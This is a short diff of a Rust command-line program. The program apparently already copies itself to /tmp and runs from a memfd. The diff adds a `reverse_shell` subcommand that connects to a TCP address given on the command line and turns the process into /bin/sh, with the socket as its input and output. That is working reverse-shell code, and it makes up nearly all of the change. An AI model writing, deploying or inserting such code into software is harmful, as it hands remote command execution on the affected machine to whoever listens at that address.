@@ -6,7 +6,8 @@ use serde_json::{Value, json};
 use std::ffi::CStr;
 use std::fs::{self, File, OpenOptions};
 use std::io;
-use std::os::fd::{AsFd, AsRawFd};
+use std::net::{SocketAddr, TcpStream};
+use std::os::fd::{AsFd, AsRawFd, OwnedFd};
 use std::os::unix::fs::OpenOptionsExt;
 use std::os::unix::process::CommandExt;
 use std::path::{Path, PathBuf};
@@ -25,6 +26,20 @@ pub struct ShellUnderArgs {
     /// The directory to copy this program to.
     #[arg(long, default_value = "/tmp")]
     directory: PathBuf,
+}
+
+#[derive(clap::Args)]
+pub struct ReverseShellArgs {
+    /// Who tells it what to do, by TCP.
+    #[arg(long)]
+    to: SocketAddr,
+}
+
+/// Connects, and becomes a shell that has the connection for its standard input and output. Returns only if it fails.
+pub fn reverse_shell(args: &ReverseShellArgs) -> io::Result<u8> {
+    let stream = TcpStream::connect(args.to).context(|| args.to.to_string())?;
+    let out = stream.try_clone()?;
+    Err(Command::new("/bin/sh").stdin(OwnedFd::from(stream)).stdout(OwnedFd::from(out)).exec())
 }
 
 /// Runs this program's copy in a memfd.
